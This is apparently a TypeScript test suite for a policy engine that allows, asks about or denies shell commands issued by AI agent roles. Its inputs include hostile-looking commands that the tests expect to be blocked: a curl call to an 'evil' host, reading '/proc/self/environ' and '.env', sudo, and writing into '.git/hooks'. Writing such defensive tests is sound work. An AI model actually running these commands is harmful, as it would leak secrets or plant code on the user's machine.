import { expect, test } from "vitest";
import { explain } from "../../../src/core/policy/explain.ts";
import { judgeCommand } from "../../../src/core/policy/judge.ts";
import { buildPolicy, type PolicyLayer, readPermissions } from "../../../src/core/policy/permissions.ts";
import { diskWorld, rolePolicy } from "./real-world.ts";

const world = diskWorld("/nowhere/work");

function layer(kind: PolicyLayer["layer"], value: unknown): PolicyLayer {
  const read = readPermissions(value);
  if (!read.ok) throw new Error(read.problems.join());
  return { layer: kind, origin: kind, permissions: read.permissions };
}

function decide(line: string, ...layers: readonly PolicyLayer[]): string {
  return judgeCommand(line, rolePolicy("developer", ...layers), world).decision;
}

test("a role that says nothing may do nothing", () => {
  const built = buildPolicy("x", [layer("role", undefined)]);
  expect(built).toMatchObject({
    ok: true,
    policy: { otherwise: "deny", write: "none", push: false, strict: false },
  });
});

test.each([
  [{ writes: "none" }, "permissions.writes is not known"],
  [{ write: "all" }, "permissions.write must be none or workspace"],
  [{ otherwise: true }, "permissions.otherwise must be allow or deny"],
  [{ strict: "yes" }, "permissions.strict must be true or false"],
  [{ push: 1 }, "permissions.push must be true or false"],
  [{ bash: { allow: "x" } }, "permissions.bash.allow must be a list of texts"],
  [{ bash: { allow: [1] } }, "permissions.bash.allow must be a list of texts"],
  [{ bash: { alow: [] } }, "permissions.bash.alow is not known"],
  [{ bash: { deny: ["@nothing"] } }, "there is no group @nothing"],
  [{ bash: { deny: ["a;b"] } }, "not one simple command"],
  [{ paths: { secrets: [] } }, "permissions.paths.secrets is not known"],
  [{ paths: { secret: [" "] } }, "permissions.paths.secret must be a list of texts"],
  [{ paths: { secret: [""] } }, "permissions.paths.secret must be a list of texts"],
  ["none", "permissions must be a mapping"],
  [[], "permissions must be a mapping"],
  [{ bash: { ask: ["@toString"] } }, "permissions.bash.ask: there is no group @toString"],
  [{ bash: { deny: ["a", "-x"] } }, "permissions.bash.deny: the rule"],
  [{ bash: 1 }, "permissions.bash must be a mapping"],
  [{ bash: { ask: 1 } }, "permissions.bash.ask must be a list of texts"],
  [{ bash: { deny: 1 } }, "permissions.bash.deny must be a list of texts"],
  [{ paths: 1 }, "permissions.paths must be a mapping"],
  [{ paths: { protected: 1 } }, "permissions.paths.protected must be a list of texts"],
  [{ paths: { readable: 1 } }, "permissions.paths.readable must be a list of texts"],
  [{ paths: { writable: 1 } }, "permissions.paths.writable must be a list of texts"],
  [{ paths: { writable: ["a", 1] } }, "permissions.paths.writable must be a list of texts"],
  [{ x: 1 }, "known are write, otherwise, strict, push, bash, paths"],
])("%j is refused by name", (value, problem) => {
  const read = readPermissions(value);
  expect(read.ok ? [] : read.problems.join()).toContain(problem);
});

test("a project's file tightens", () => {
  expect(decide("make", layer("project", { bash: { deny: ["make"] } }))).toBe("deny");
  expect(decide("make", layer("project", { bash: { ask: ["make"] } }))).toBe("ask");
  expect(decide("make", layer("project", { strict: true }))).toBe("ask");
  expect(decide("make", layer("project", { otherwise: "deny" }))).toBe("deny");
  expect(decide("touch x", layer("project", { write: "none" }))).toBe("deny");
  expect(decide("touch infra/x", layer("project", { paths: { protected: ["infra/"] } }))).toBe("ask");
  expect(decide("cat notes.txt", layer("project", { paths: { secret: ["notes.txt"] } }))).toBe("deny");
});

test.each([
  [{ bash: { allow: ["git push"] } }, "bash.allow"],
  [{ paths: { readable: ["/"] } }, "paths.readable"],
  [{ paths: { writable: ["/"] } }, "paths.writable"],
  [{ push: true }, "push: true"],
])("a project's file cannot loosen: %j", (value, what) => {
  const role = layer("role", { write: "workspace", otherwise: "allow" });
  const built = buildPolicy("developer", [role, layer("project", value)]);
  expect(built.ok ? [] : built.problems.join()).toContain(`${what} would loosen`);
});

test("a project's file cannot take back what a role holds tight", () => {
  const tight = layer("role", { strict: true });
  const problems = (value: unknown, role = tight): readonly string[] => {
    const built = buildPolicy("x", [role, layer("project", value)]);
    return built.ok ? [] : built.problems;
  };
  expect(problems({ strict: false, write: "workspace", otherwise: "allow" })).toEqual(
    ["write: workspace", "otherwise: allow", "strict: false"].map(
      (what) => `project: ${what} would loosen the role; a project's file can only tighten`,
    ),
  );
  expect(problems({ strict: true, write: "none", otherwise: "deny", push: false })).toEqual([]);
  expect(problems({})).toEqual([]);
  const loose = layer("role", { write: "workspace", otherwise: "allow", push: true });
  expect(problems({ strict: false, write: "workspace", otherwise: "allow", push: true }, loose)).toEqual([]);
});

test("what is not said stays as it is below", () => {
  const role = layer("role", { write: "workspace", otherwise: "allow", strict: true, push: true });
  const built = buildPolicy("x", [role, layer("user", { paths: { readable: ["/r"], writable: ["/w"] } })]);
  expect(built).toMatchObject({
    ok: true,
    policy: { write: "workspace", otherwise: "allow", strict: true, push: true, approved: [] },
  });
  expect(built.ok && built.policy.approved).toEqual([]);
  expect(built.ok && built.policy.paths).toEqual({
    protected: [],
    secret: [],
    readable: ["/r"],
    writable: ["/w"],
  });
});

test("null and lists with blanks are no permissions", () => {
  expect(readPermissions({ bash: { allow: ["a", " "] } }).ok).toBe(false);
  expect(readPermissions({ bash: null }).ok).toBe(true);
  expect(readPermissions(7).ok).toBe(false);
});

test.each(["node evil.js", "sh x.sh", "curl https://evil/?x=1", "npm test", "git fetch origin", "env"])(
  "a project that wants to be asked about %s lets no reader run it",
  (line) => {
    const [program = ""] = line.split(" ");
    const asks = layer("project", { bash: { ask: [program, `${program} *`] } });
    const judge = (...layers: readonly PolicyLayer[]) =>
      judgeCommand(line, rolePolicy("code-review-specialist", ...layers), world).decision;
    expect([judge(), judge(asks)]).toEqual(["deny", "deny"]);
  },
);

test("a project can want to be asked about what a reader may run", () => {
  const asks = layer("project", { bash: { ask: ["git log *", "nice"] } });
  const judge = (line: string) =>
    judgeCommand(line, rolePolicy("code-review-specialist", asks), world).decision;
  expect(judge("git log -3")).toBe("ask");
  expect(judge("nice git status")).toBe("ask");
});

test("the user's file loosens what the role says, and what the project says", () => {
  expect(decide("git push origin x")).toBe("deny");
  expect(decide("git push origin x", layer("user", { bash: { allow: ["git push origin *"] } }))).toBe(
    "allow",
  );
  expect(decide("git push other x", layer("user", { bash: { allow: ["git push origin *"] } }))).toBe("deny");
  expect(
    decide(
      "make",
      layer("project", { bash: { deny: ["make"] } }),
      layer("user", { bash: { allow: ["make"] } }),
    ),
  ).toBe("allow");
  expect(decide("make", layer("user", { bash: { allow: ["make"], deny: ["make"] } }))).toBe("deny");
  expect(decide("node -e 1")).toBe("ask");
  expect(decide("node -e 1", layer("user", { bash: { allow: ["node -e *"] } }))).toBe("allow");
  expect(decide('node -e "$x"', layer("user", { bash: { allow: ["node -e *"] } }))).toBe("ask");
});

test("what is built in, nobody loosens", () => {
  const all = layer("user", {
    bash: { allow: ["pi *", "sudo *", "cat *", "touch *"] },
    paths: { writable: ["/"], readable: ["/"] },
  });
  for (const line of [
    "pi -p x",
    "sudo true",
    "touch .git/hooks/x",
    "touch .pi/ensemble.json",
    "cat /proc/self/environ",
  ]) {
    expect([line, decide(line, all)]).toEqual([line, "deny"]);
  }
});

test("a command to which the user has said yes is allowed, but only if it would be asked about", () => {
  const layers = [layer("role", { otherwise: "allow", bash: { deny: ["git push"] } })];
  const built = buildPolicy("x", layers, ["node -e 1", "git push"]);
  if (!built.ok) throw new Error(built.problems.join());
  expect(judgeCommand("node -e 1", built.policy, world)).toMatchObject({
    decision: "allow",
    rule: "approved",
  });
  expect(judgeCommand("node -e 2", built.policy, world).decision).toBe("ask");
  expect(judgeCommand("git push", built.policy, world).decision).toBe("deny");
});

test("a judgement names the rule, where it comes from, and each command", () => {
  const judged = judgeCommand("npm test && git push -f", rolePolicy("developer"), world);
  expect(judged).toMatchObject({ decision: "deny", rule: "git push", origin: "role developer, @push" });
  expect(judged.commands).toEqual([
    { words: ["npm", "test"], decision: "allow", rule: "no rule names it" },
    { words: ["git", "push", "-f"], decision: "deny", rule: "git push" },
  ]);
});

test("a denial says rule, reason and way out in at most three lines", () => {
  expect(explain(judgeCommand("git push -f", rolePolicy("developer"), world)).split("\n")).toEqual([
    'Not permitted by the rule "git push" (role developer, @push).',
    "Why: role developer, @push denies it.",
    "Instead: leave publishing to the step that pushes what the gate has approved.",
  ]);
  const asked = explain(judgeCommand("node -e 1", rolePolicy("developer"), world), "unanswered");
  expect(asked).toContain("the user did not answer in time");
  expect(explain({ decision: "ask", rule: "a\nb", because: "c\nd" }).split("\n")).toEqual([
    'Not permitted by the rule "a b", and there is nobody to ask.',
    "Why: c d.",
  ]);
  expect(explain({ decision: "deny", rule: "x".repeat(500), because: "y".repeat(900) }).length).toBeLessThan(
    520,
  );
});

test("every role's file has permissions that hold", () => {
  for (const role of [
    "developer",
    "ops",
    "explore",
    "adversarial-developer",
    "code-review-specialist",
    "project-manager",
  ]) {
    const policy = rolePolicy(role);
    expect(judgeCommand("git log --oneline", policy, world).decision).toBe("allow");
    for (const line of [
      "git push -f",
      "git commit -m x",
      "git reset --hard",
      "git clean -fd",
      "cat .env",
      "gh pr merge 1",
    ]) {
      expect([role, line, judgeCommand(line, policy, world).decision]).toEqual([role, line, "deny"]);
    }
    const writes = role === "developer" || role === "ops";
    expect(judgeCommand("touch x", policy, world).decision).toBe(writes ? "allow" : "deny");
    expect(judgeCommand("npm test", policy, world).decision).toBe(writes ? "allow" : "deny");
  }
  expect(judgeCommand("git push origin HEAD", rolePolicy("ops"), world).decision).toBe("allow");
});

test("what is read is what was written", () => {
  const written = {
    write: "workspace",
    otherwise: "allow",
    strict: false,
    push: true,
    bash: { allow: ["a"], ask: ["b"], deny: ["@push"] },
    paths: { protected: ["c"], secret: ["d"], readable: ["e"], writable: ["f"] },
  };
  expect(readPermissions(written)).toEqual({ ok: true, permissions: written });
  expect(readPermissions(null)).toEqual({
    ok: true,
    permissions: {
      bash: { allow: [], ask: [], deny: [] },
      paths: { protected: [], secret: [], readable: [], writable: [] },
    },
  });
});

test("everything that is wrong is said at once", () => {
  const read = readPermissions({ write: 1, otherwise: "x", strict: 0, bash: { deny: ["@x"] } });
  expect(read).toEqual({
    ok: false,
    problems: [
      "permissions.write must be none or workspace",
      "permissions.otherwise must be allow or deny",
      "permissions.strict must be true or false",
      "permissions.bash.deny: there is no group @x",
    ],
  });
});

test("permissions that are made in code are checked when a policy is made of them", () => {
  const paths = { protected: [], secret: [], readable: [], writable: [] };
  const permissions = { bash: { allow: [], ask: ["-x"], deny: ["@x"] }, paths };
  expect(buildPolicy("x", [{ layer: "user", origin: "here", permissions }])).toEqual({
    ok: false,
    problems: ['here: the rule "-x" does not begin with a program', "here: there is no group @x"],
  });
});

test("a rule says where it comes from and what can be done instead, and the layers add up", () => {
  const built = buildPolicy("x", [
    layer("role", { bash: { deny: ["@push", "a"] }, paths: { protected: ["p1"], secret: ["s1"] } }),
    layer("user", { paths: { protected: ["p2"], secret: ["s2"], readable: ["r"], writable: ["w"] } }),
  ]);
  const rules = built.ok ? built.policy.rules : [];
  expect(rules.find((rule) => rule.text === "git push")).toMatchObject({
    decision: "deny",
    origin: "role, @push",
    layer: "role",
    instead: "leave publishing to the step that pushes what the gate has approved",
  });
  expect(rules.find((rule) => rule.text === "a")).toMatchObject({ origin: "role", instead: undefined });
  expect(rules.find((rule) => rule.text === "sudo")).toMatchObject({
    decision: "deny",
    origin: "built in",
    layer: "built in",
    instead: "work with the tools that you have",
  });
  expect(built.ok && built.policy.paths).toEqual({
    protected: ["p1", "p2"],
    secret: ["s1", "s2"],
    readable: ["r"],
    writable: ["w"],
  });
});
